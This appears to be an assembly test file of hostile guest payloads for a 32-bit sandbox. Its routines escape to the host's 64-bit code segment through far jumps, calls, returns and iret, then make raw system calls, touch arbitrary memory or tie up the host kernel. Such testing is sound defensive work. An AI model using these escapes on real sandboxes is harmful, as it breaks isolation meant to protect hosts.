/*
 * What a hostile guest program would do, to be copied to CODE. Each begins in 32-bit code and goes
 * to the host's 64-bit code segment by another way. In 64-bit code: the registers for a system call
 * are read from a table at DATA + 0x400: rax rdi rsi rdx r10 r8 r9, then where to jump.
 */
#define CODE 0x08048000
#define TABLE 0xbf000400

        .macro  attack name
        .globl  attack_\name, attack_\name\()_end
        .p2align 4
attack_\name:
        .endm

        .section .rodata
        .macro  load
        mov     $TABLE, %ebx
        mov     (%rbx), %rax
        mov     8(%rbx), %rdi
        mov     16(%rbx), %rsi
        mov     24(%rbx), %rdx
        mov     32(%rbx), %r10
        mov     40(%rbx), %r8
        mov     48(%rbx), %r9
        .endm

attack jump
        .code32
        ljmp    $0x33, $CODE + 1f - attack_jump
        .code64
1:      load
        syscall
        ud2
attack_jump_end:

attack call
        .code32
        lcall   $0x33, $CODE + 1f - attack_call
        .code64
1:      load
        int     $0x80
        ud2
attack_call_end:

attack return
        .code32
        push    $0x33
        push    $CODE + 1f - attack_return
        lret
        .code64
1:      load
        syscall
        ud2
attack_return_end:

attack iret
        .code32
        pushf
        push    $0x33
        push    $CODE + 1f - attack_iret
        iret
        .code64
1:      load
        sysenter
        ud2
attack_iret_end:

/* Into the stub's code, at the table's last entry. */
attack stub
        .code32
        ljmp    $0x33, $CODE + 1f - attack_stub
        .code64
1:      load
        mov     64(%rbx), %rsp
        mov     72(%rbx), %rbp
        mov     56(%rbx), %r11
        mov     80(%rbx), %rbx
        jmp     *%r11
attack_stub_end:

/* Reads, then writes back, the 8 bytes at the table's first entry. */
attack touch
        .code32
        ljmp    $0x33, $CODE + 1f - attack_touch
        .code64
1:      mov     $TABLE, %ebx
        mov     (%rbx), %rdi
        mov     (%rdi), %rax
        mov     %rax, 8(%rbx)
        movl    $1, 16(%rbx)
        mov     %rax, (%rdi)
        movl    $2, 16(%rbx)
        ud2
attack_touch_end:

/* Fills [rdi, rsi) of the table with garbage, for ever. */
attack scribble
        .code32
        ljmp    $0x33, $CODE + 1f - attack_scribble
        .code64
1:      mov     $TABLE, %ebx
        mov     $88172645463325252, %rax
2:      mov     (%rbx), %rdi
3:      mov     %rax, %rdx
        shl     $13, %rdx
        xor     %rdx, %rax
        mov     %rax, %rdx
        shr     $7, %rdx
        xor     %rdx, %rax
        mov     %rax, %rdx
        shl     $17, %rdx
        xor     %rdx, %rax
        mov     %rax, (%rdi)
        add     $8, %rdi
        cmp     8(%rbx), %rdi
        jb      3b
        jmp     2b
attack_scribble_end:

/* lcall without a stack: seen to keep the host's kernel busy without ever delivering a signal. */
attack nostack
        .code32
        xor     %esp, %esp
        lcall   $0x33, $CODE
attack_nostack_end:

        .section .note.GNU-stack, "", @progbits
